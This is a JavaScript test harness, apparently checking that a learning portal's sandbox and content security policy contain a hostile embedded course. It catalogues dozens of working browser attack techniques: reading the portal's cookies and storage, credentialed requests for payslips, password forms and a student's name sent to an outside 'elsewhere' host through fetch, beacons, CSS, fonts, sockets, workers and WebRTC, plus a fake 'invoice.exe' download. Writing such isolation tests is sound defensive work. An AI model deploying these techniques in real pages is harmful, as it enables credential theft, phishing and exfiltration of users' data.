// What a course might try. Each attempt says what it got; what it is refused by is told beside it. `portal` and `elsewhere` are origins,
// `other` is the host of somebody else's course.
window.attempts = {
  // The portal's own.
  "the portal's address": () => window.top.location.href,
  "the portal's page": () => window.top.document.body.innerHTML,
  "the portal's cookies": () => window.top.document.cookie,
  "the portal's storage": () => window.top.localStorage.length,
  "the portal's databases": () => window.top.indexedDB.databases(),
  'a common domain with it': () => ((document.domain = 'localhost'), window.top.document.cookie),
  'payslips, as the person': ({ portal }) => fetch(`${portal}/payslips?hostile`, { credentials: 'include' }).then((answer) => answer.text()),
  'payslips, unseen': ({ portal }) => fetch(`${portal}/payslips?hostile`, { mode: 'no-cors', credentials: 'include' }).then(() => 'sent'),
  'payslips in a frame': ({ portal }) => framed(`${portal}/payslips?hostile`),
  'payslips as an object': ({ portal }) => put('object', { data: `${portal}/payslips?hostile`, type: 'text/html' }),
  'payslips as a script': ({ portal }) => loaded(document.createElement('script'), `${portal}/payslips?hostile`),
  'a form of the portal': ({ portal }) => submitted(`${portal}/log-out?hostile`, '_self'),
  'a form of the portal in its place': ({ portal }) => submitted(`${portal}/log-out?hostile`, '_top'),
  'what the person was let in by': () => document.requestStorageAccess().then(() => fetch('/', { credentials: 'include' }).then(() => 'given')),
  'a passkey': () => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(32), rpId: 'localhost' } }),
  // Where the person is led.
  'to lead the portal away': ({ elsewhere }) => ((window.top.location.href = `${elsewhere}/top`), still()),
  'to lead the portal away by a link': ({ elsewhere }) => clicked({ href: `${elsewhere}/link`, target: '_top' }),
  'to lead the portal away by a form': ({ elsewhere }) => submitted(`${elsewhere}/form`, '_top'),
  'to take the place of the portal': () => (window.top.document.open(), 'taken'),
  'a window of its own': ({ elsewhere }) => (window.open(`${elsewhere}/window`) ? 'opened' : waited()),
  'a window by a link': ({ elsewhere }) => clicked({ href: `${elsewhere}/blank`, target: '_blank' }),
  'a file on the disk': () => clicked({ href: 'data:application/octet-stream,x', download: 'invoice.exe' }),
  'a log-in form sent elsewhere': ({ elsewhere }) => submitted(`${elsewhere}/password`, '_self'),
  'a log-in form sent elsewhere in an address': ({ elsewhere }) => submitted(`${elsewhere}/password`, '_self', 'get'),
  'a log-in form sent elsewhere in a window': ({ elsewhere }) => submitted(`${elsewhere}/password`, '_blank'),
  // Names sent abroad.
  'names by fetch': ({ elsewhere }) => fetch(`${elsewhere}/fetch?${name()}`, { mode: 'no-cors' }).then(() => 'sent'),
  'names by a request': ({ elsewhere }) =>
    new Promise((settle) => {
      const request = new XMLHttpRequest();
      request.onload = () => settle('sent');
      request.onerror = () => settle('refused');
      request.open('POST', `${elsewhere}/request`);
      request.send(name());
    }),
  'names by beacon': ({ elsewhere }) => (navigator.sendBeacon(`${elsewhere}/beacon`, name()), waited()),
  'names by a picture': ({ elsewhere }) => loaded(new Image(), `${elsewhere}/picture?${name()}`),
  'names by a video': ({ elsewhere }) => put('video', { src: `${elsewhere}/video?${name()}` }),
  'names by an object': ({ elsewhere }) => put('object', { data: `${elsewhere}/object?${name()}` }),
  'names by a script': ({ elsewhere }) => loaded(document.createElement('script'), `${elsewhere}/script?${name()}`),
  'names by a module': ({ elsewhere }) => import(`${elsewhere}/module?${name()}`).then(() => 'sent'),
  'names by a style sheet': ({ elsewhere }) => put('link', { rel: 'stylesheet', href: `${elsewhere}/style?${name()}` }),
  'names by a rule of style': ({ elsewhere }) => styled(`body { background: url("${elsewhere}/background?${name()}") }`),
  'names by a style that takes another': ({ elsewhere }) => styled(`@import "${elsewhere}/import?${name()}";`),
  'names by a font': ({ elsewhere }) => {
    document.getElementById('place').style.fontFamily = 'names';
    document.getElementById('place').append('x');
    return styled(`@font-face { font-family: names; src: url("${elsewhere}/font?${name()}") }`);
  },
  'names by a prefetch': ({ elsewhere }) => put('link', { rel: 'prefetch', href: `${elsewhere}/prefetch?${name()}` }),
  'names by a preload': ({ elsewhere }) => put('link', { rel: 'preload', as: 'script', href: `${elsewhere}/preload?${name()}` }),
  'names by a connection ahead': async ({ elsewhere }) => {
    await put('link', { rel: 'preconnect', href: elsewhere }, 500);
    throw new Tried(document.createElement('link').relList.supports('preconnect'));
  },
  'names by rules of what comes next': async ({ elsewhere }) => {
    await put('script', { type: 'speculationrules', text: JSON.stringify({ prefetch: [{ urls: [`${elsewhere}/speculation`], eagerness: 'immediate' }] }) }, 500);
    throw new Tried(HTMLScriptElement.supports('speculationrules'));
  },
  'names by a ping': ({ elsewhere }) => clicked({ href: '#', ping: `${elsewhere}/ping?${name()}` }),
  'names by a socket': ({ elsewhere }) =>
    new Promise((settle) => {
      const socket = new WebSocket(`${elsewhere.replace('http', 'ws')}/socket?${name()}`);
      socket.onopen = () => settle('sent');
      socket.onerror = () => settle('refused');
    }),
  'names by events': ({ elsewhere }) =>
    new Promise((settle) => {
      const source = new EventSource(`${elsewhere}/events?${name()}`);
      source.onopen = () => settle('sent');
      source.onerror = () => (source.close(), settle('refused'));
    }),
  'names by web transport': ({ elsewhere }) => new WebTransport(`${elsewhere.replace('http:', 'https:')}/transport`).ready.then(() => 'sent'),
  'names by a frame': ({ elsewhere }) => framed(`${elsewhere}/frame?${name()}`),
  'names by a frame of nothing': ({ elsewhere }) => {
    const frame = put('iframe', { srcdoc: `<script>fetch("${elsewhere}/srcdoc", { mode: "no-cors" })</script>` });
    return frame;
  },
  'names by a worker': ({ elsewhere }) => worked(Worker, URL.createObjectURL(new Blob([working(`${elsewhere}/worker`)]))),
  'names by a worker in its address': ({ elsewhere }) => worked(Worker, `data:text/javascript,${encodeURIComponent(working(`${elsewhere}/worker`))}`),
  'names by a worker from elsewhere': ({ elsewhere }) => worked(Worker, `${elsewhere}/worker`),
  'names by a shared worker': ({ elsewhere }) =>
    new Promise((settle) => {
      const worker = new SharedWorker(`data:text/javascript,${encodeURIComponent(`onconnect = ({ ports: [port] }) => { const postMessage = (said) => port.postMessage(said); ${working(`${elsewhere}/shared`)} }`)}`);
      worker.port.onmessage = ({ data }) => settle(data);
      worker.onerror = () => settle('refused');
    }).then(heard),
  'names by a service worker': async ({ elsewhere }) => {
    const registration = await navigator.serviceWorker.register('service.js');
    const worker = registration.installing ?? registration.waiting ?? registration.active;
    const said = new Promise((settle) => (navigator.serviceWorker.onmessage = ({ data }) => settle(data)));
    navigator.serviceWorker.startMessages();
    worker.postMessage(`${elsewhere}/service?${name()}`);
    return heard(await said);
  },
  'names by WebRTC': async ({ stun }) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: stun, username: name(), credential: 'x' }] });
    connection.createDataChannel('names');
    await connection.setLocalDescription(await connection.createOffer());
    await new Promise((settle) => setTimeout(settle, 700));
    const state = connection.iceGatheringState;
    connection.close();
    throw new Tried(state !== 'new');
  },
  'names by the way of its own frame': ({ elsewhere }) => ((location.href = `${elsewhere}/led`), still()),
  'names by a page that leads on': ({ elsewhere }) => put('meta', { httpEquiv: 'refresh', content: `0; url=${elsewhere}/refresh` }, 800),
  "names by the way of the player's frame": ({ elsewhere }) => ((window.parent.location.href = `${elsewhere}/led`), still()),
  "payslips by the way of the player's frame": ({ portal }) => ((window.parent.location.href = `${portal}/payslips?hostile`), still()),
  // What the device can do.
  'the microphone': () => navigator.mediaDevices.getUserMedia({ audio: true }).then(() => 'heard'),
  'the screen': () => navigator.mediaDevices.getDisplayMedia().then(() => 'seen'),
  'where the person is': () =>
    new Promise((settle, fail) => navigator.geolocation.getCurrentPosition(() => settle('found'), ({ message }) => fail(new Error(message)))),
  'what was copied': () => navigator.clipboard.readText(),
  // Other courses.
  "somebody else's course in a frame": ({ other }) => framed(`${other}/launch/x/course/index.html`),
  "somebody else's course by its own token": ({ other }) => fetch(`${other}${own()}begin`, { method: 'POST' }).then(() => 'sent'),
  "somebody else's commits by its own token": ({ other }) =>
    fetch(`${other}${own()}commit`, { method: 'POST', mode: 'no-cors', body: '{}' }).then(() => 'sent'),
  'a common domain with them': ({ other }) => ((document.domain = new URL(other).hostname.split('.').slice(1).join('.')), 'shared'),
};

/** It was tried, by something that the browser knows, and nothing tells what became of it. */
class Tried extends Error {
  constructor(isKnown) {
    super(isKnown ? 'tried: and nothing came of it' : 'the browser does not know this');
  }
}
const own = () => location.pathname.replace(/course\/.*/, '');
const name = () => encodeURIComponent(window.parent.API?.cmi.core.student_name ?? 'nobody');
const still = (time = 300) => new Promise((settle) => setTimeout(settle, time, 'refused'));
/** Until something is refused by the policy, or some time is over. */
const waited = (time) =>
  Promise.race([still(time), new Promise((settle) => document.addEventListener('securitypolicyviolation', () => settle('refused'), { once: true }))]);
/** What a worker does: it tries, and tells by what it was refused. */
const working = (address) => `
  const told = new Promise((settle) => addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => settle("policy: " + effectiveDirective + " " + blockedURI)));
  const late = new Promise((settle) => setTimeout(settle, 2000, "untold"));
  fetch(${JSON.stringify(address)}, { mode: "no-cors" }).then(() => "sent", () => Promise.race([told, late])).then((said) => postMessage(said));`;
/** What a worker told. */
function heard(said) {
  if (said === 'sent') return said;
  throw new Error(said);
}

/** What an attempt got, and what stood in its way. */
window.attempt = async (what, where) => {
  const said = [];
  const hear = ({ effectiveDirective, blockedURI }) => said.push(`policy: ${effectiveDirective} ${blockedURI}`);
  document.addEventListener('securitypolicyviolation', hear);
  let got = 'refused';
  try {
    got = String(await window.attempts[what](where));
  } catch (error) {
    said.push(/^(policy|tried): /.test(error?.message) ? error.message : `${error?.name}: ${error?.message}`);
  }
  await still(30);
  document.removeEventListener('securitypolicyviolation', hear);
  return { got, said };
};

/** Puts this on the page, and gives it some time. */
function put(kind, values, time = 300) {
  document.getElementById('place').append(Object.assign(document.createElement(kind), values));
  return waited(time);
}

function styled(rules) {
  return put('style', { textContent: rules });
}

function loaded(element, address) {
  return new Promise((settle) => {
    element.onload = () => settle('sent');
    element.onerror = () => settle('refused');
    element.src = address;
    document.getElementById('place').append(element);
  });
}

function framed(address) {
  const frame = document.getElementById('place').appendChild(document.createElement('iframe'));
  frame.src = address;
  return new Promise((settle) => {
    frame.onload = () => {
      try {
        settle(frame.contentDocument?.body.textContent || 'refused');
      } catch {
        settle('refused');
      }
    };
    waited().then(settle);
  });
}

function submitted(address, target, method = 'post') {
  const form = document.getElementById('place').appendChild(document.createElement('form'));
  Object.assign(form, { action: address, method, target });
  form.innerHTML = '<label>Password <input name="password" value="secret"></label>';
  form.submit();
  return still();
}

function clicked(values) {
  const link = document.getElementById('place').appendChild(document.createElement('a'));
  Object.assign(link, { textContent: 'Here', ...values });
  link.click();
  return waited();
}

function worked(kind, address) {
  return new Promise((settle) => {
    const worker = new kind(address);
    worker.onmessage = ({ data }) => settle(data);
    worker.onerror = () => settle('refused');
  }).then(heard);
}
